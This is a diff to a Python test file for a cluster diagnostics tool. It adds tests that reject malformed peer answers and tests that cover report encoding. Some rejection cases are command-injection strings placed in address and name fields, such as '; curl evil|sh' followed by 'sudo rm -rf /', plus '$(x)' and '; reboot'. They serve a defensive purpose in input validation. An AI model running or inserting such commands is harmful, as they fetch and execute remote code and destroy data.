@@ -13,12 +13,15 @@ import pytest
 
 from rankwise.base.clock import SYSTEM_CLOCK
 from rankwise.doctor.host import Host
+from rankwise.doctor.json_records import from_json as read_record
+from rankwise.doctor.multi_host import wire
 from rankwise.doctor.multi_host.all_reduce import read_reduce
-from rankwise.doctor.multi_host.cluster_report import from_json
+from rankwise.doctor.multi_host.cluster_report import HostReport, from_json
 from rankwise.doctor.multi_host.connection import Connection
 from rankwise.doctor.multi_host.coordinator import Coordinator, OwnHostLostError
 from rankwise.doctor.multi_host.coordinator_client import explain_failure
 from rankwise.doctor.multi_host.peer import Admission, Peer
+from rankwise.doctor.multi_host.phases import _drop_defaults
 from rankwise.doctor.multi_host.plan import JoinError, Plan
 from rankwise.doctor.multi_host.results import Results
 from rankwise.doctor.multi_host.wire import (
@@ -26,6 +29,7 @@ from rankwise.doctor.multi_host.wire import (
     clean_host_name,
     clean_name,
     decode,
+    encode,
     number,
     one_line,
     whole,
@@ -140,13 +144,24 @@ def measure(**changes: Any) -> dict[str, Any]:
         ("take_opened", {"host": {"name": "x", "own_name": "x'; reboot"}}),
         ("take_opened", {"host": {"name": "x", "interfaces": [["eth0", 5]]}}),
         ("take_opened", {"host": {"name": "x", "interfaces": [["a;b", "10.0.0.3"]]}}),
+        ("take_opened", listen(address="10.0.0.2%0; curl evil|sh\nsudo rm -rf /")),
+        ("take_opened", {"host": {"name": "x", "address": "10.0.0.2%0; curl evil|sh\nsudo rm -rf /"}}),
+        ("take_opened", {"host": {"name": "x", "gloo_address": "fe80::1%$(x)"}}),
+        ("take_opened", {"host": {"name": "x", "private": ["fe80::1%a b"]}}),
+        ("take_opened", {"host": {"name": "x", "private": [""]}}),
         ("take_opened", {}),
+        ("take_links", {}),
+        ("take_links", {"tried": "nonsense"}),
+        ("take_links", {"tried": []}),
+        ("take_links", link(address="")),
         ("take_links", link(target="nobody")),
         ("take_links", link(target="host2")),
         ("take_links", link(source="host0")),
         ("take_links", link(outcome="maybe")),
         ("take_links", look_up(target="nobody")),
         ("take_links", look_up(got=["`x`"])),
+        ("take_links", look_up(got=[""])),
+        ("take_links", look_up(got=["10.0.0.2%0; curl evil|sh\nsudo rm -rf /"])),
         ("take_measure", measure(target="nobody")),
         ("take_measure", measure(bytes_per_s=-1.0)),
         ("take_measure", measure(latency_s="1")),
@@ -166,7 +181,15 @@ def test_an_answer_that_no_doctor_gives_is_taken_as_a_whole_or_not_at_all(
 
 @pytest.mark.parametrize(
     ("take", "told"),
-    [("take_opened", listen()), ("take_links", link()), ("take_links", look_up()), ("take_measure", measure())],
+    [
+        ("take_opened", listen()),
+        ("take_opened", listen(address="fe80::1%eth0.5")),
+        ("take_opened", {"host": {"name": "x", "address": "", "own_name": "x"}}),
+        ("take_links", link()),
+        ("take_links", look_up()),
+        ("take_links", look_up(got=["10.0.0.2", "fe80::1%eth0"])),
+        ("take_measure", measure()),
+    ],
 )
 def test_what_a_doctor_answers_is_taken(peers: list[Peer], take: str, told: dict[str, Any]) -> None:
     """The same answers without the mistakes are in the report."""
@@ -174,6 +197,53 @@ def test_what_a_doctor_answers_is_taken(peers: list[Peer], take: str, told: dict
     before = gathered.to_report()
     getattr(gathered, take)(peers[2], told)
     assert gathered.to_report() != before
+
+
+def test_a_host_does_not_say_what_only_the_coordinator_knows(peers: list[Peer]) -> None:
+    """That it was lost, its clock and its readings are not of its own telling; of thousands of addresses a part is kept."""
+    gathered = Results(peers=peers)
+    cards = {"interfaces": [["eth0", "10.0.0.3"]] * 5000, "private": ["172.17.0.1"] * 5000}
+    reading = {"verdict": "fail", "what": "a", "facts": {}, "hosts": []}
+    told = {"name": "x", "lost": "gone", "clock_ahead_s": 5.0, "clock_error_s": 1.0, "readings": [reading], **cards}
+    gathered.take_opened(peers[2], {"host": told})
+    own = gathered.hosts["host2"]
+    assert (own.name, own.lost, own.clock_ahead_s, own.clock_error_s, own.readings) == ("host2", "", None, 0.0, ())
+    assert (len(own.interfaces), len(own.private)) == (4096, 4096)
+
+
+def test_an_order_for_all_is_encoded_once(monkeypatch: pytest.MonkeyPatch) -> None:
+    """The order to try all links names each host; each host is sent the same line, and an order of its own where there is one."""
+    made_lines: list[Any] = []
+    monkeypatch.setattr(wire, "encode", lambda order: made_lines.append(order) or encode(order))
+
+    async def scene(made: Coordinator, peers: list[Peer], theirs: list[socket.socket]) -> None:
+        peers[0].is_own = False
+        monkeypatch.setattr(made, "say", lambda _: None)
+        order: Any = {"do": "connect", "hosts": []}
+        await made.ask(dict.fromkeys(peers, order), timeout_s=0.05, doing="trying")
+        assert made_lines == [order]
+        assert [one.recv(1000) for one in theirs] == [encode(order)] * 3
+
+    coordinate(scene)
+    made_lines.clear()
+
+    async def others(made: Coordinator, peers: list[Peer], theirs: list[socket.socket]) -> None:
+        peers[0].is_own = False
+        monkeypatch.setattr(made, "say", lambda _: None)
+        await made.ask({one: {"do": "open", "name": one.name} for one in peers}, timeout_s=0.05, doing="opening")
+        assert [one.recv(1000) for one in theirs] == [encode({"do": "open", "name": one.name}) for one in peers]
+
+    coordinate(others)
+
+
+def test_what_is_not_known_of_a_host_is_not_sent(peers: list[Peer]) -> None:
+    """A host reads of the others what they have said, though what is empty has not been sent."""
+    gathered = Results(peers=peers)
+    gathered.take_opened(peers[2], listen())
+    report = gathered.hosts["host2"]
+    sent = _drop_defaults(report)
+    assert not {"readings", "interfaces", "node_rank", "clock_ahead_s", "lost"} & sent.keys()
+    assert read_record(HostReport, sent) == report
 
 
 def test_readings_are_of_the_host_that_tells_them(peers: list[Peer]) -> None:
